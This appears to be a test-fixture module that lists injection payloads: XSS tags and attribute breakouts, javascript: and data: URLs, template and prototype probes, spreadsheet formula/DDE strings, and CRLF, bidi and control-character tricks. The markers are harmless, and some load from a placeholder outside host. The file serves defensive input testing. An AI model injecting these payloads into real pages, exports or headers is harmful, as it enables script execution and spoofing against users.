// What somebody outside might type, hoping that a page runs it, a template fills it, a spreadsheet computes it, or a
// reader is misled by it. Each would set window.__ran, open a dialog, or fetch from https://outside.example, if it ran.
// Each ends in its number, by which it is found again.

const RUN = '__ran=1';

export const PAYLOADS = [
  // elements
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt src=//outside.example/x.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://outside.example/p.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="https://outside.example/x.swf">`,
  `<embed src="https://outside.example/x">`,
  `<link rel=stylesheet href=//outside.example/x.css>`,
  `<base href="https://outside.example/">`,
  `<meta http-equiv=refresh content="0;url=https://outside.example">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<form action="https://outside.example"><button>go</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<style>*{background:url(//outside.example/y)}</style>`,
  `<template><script>${RUN}</script></template>`,
  // out of where it stands
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `\` onclick=${RUN} \``,
  `</title><svg onload=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</option></select><svg onload=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `\\"};${RUN};//`,
  `";${RUN};"`,
  // addresses
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `//outside.example/path`,
  // templates, messages, styles
  `{{csrf}}`,
  `{{{business}}}`,
  `{{#rows}}{{/rows}}{{>frame_head}}`,
  `{count, plural, one {#} other {#}}`,
  `{name} '{' ''`,
  `\${${RUN}}`,
  `<%= 7*7 %>`,
  `__proto__`,
  `constructor.prototype`,
  `red;background:url(//outside.example/z)`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#x3C;svg/onload=${RUN}&#x3E;`,
  `＜script＞${RUN}＜/script＞`,
  // spreadsheets
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://outside.example","x")`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  ` =1+1`,
  `＝1+1`,
  `a";=1+1;"b`,
  `a,=1+1`,
  `%0A=1+1`,
  // what cannot be seen
  `null`,
  `undefined`,
  `pay​pal‍ﷺ`,
  `Z̷̛͎a̴͓͝l̵͚̀g̶͔̚o`,
  `אבג abc עולם`,
].map((text, n) => `${text} [${n}]`);

// Each of these makes a line read as what it is not. No field of one line takes it.
export const REFUSED = ['a\u202Egpj.exe', 'a\u2066b', 'a\tb', '\t=1+1', '\r=1+1', 'a\r\nSet-Cookie: x=1', 'a\u001B[31mb', 'a\u2028b', 'a\u0085b'];
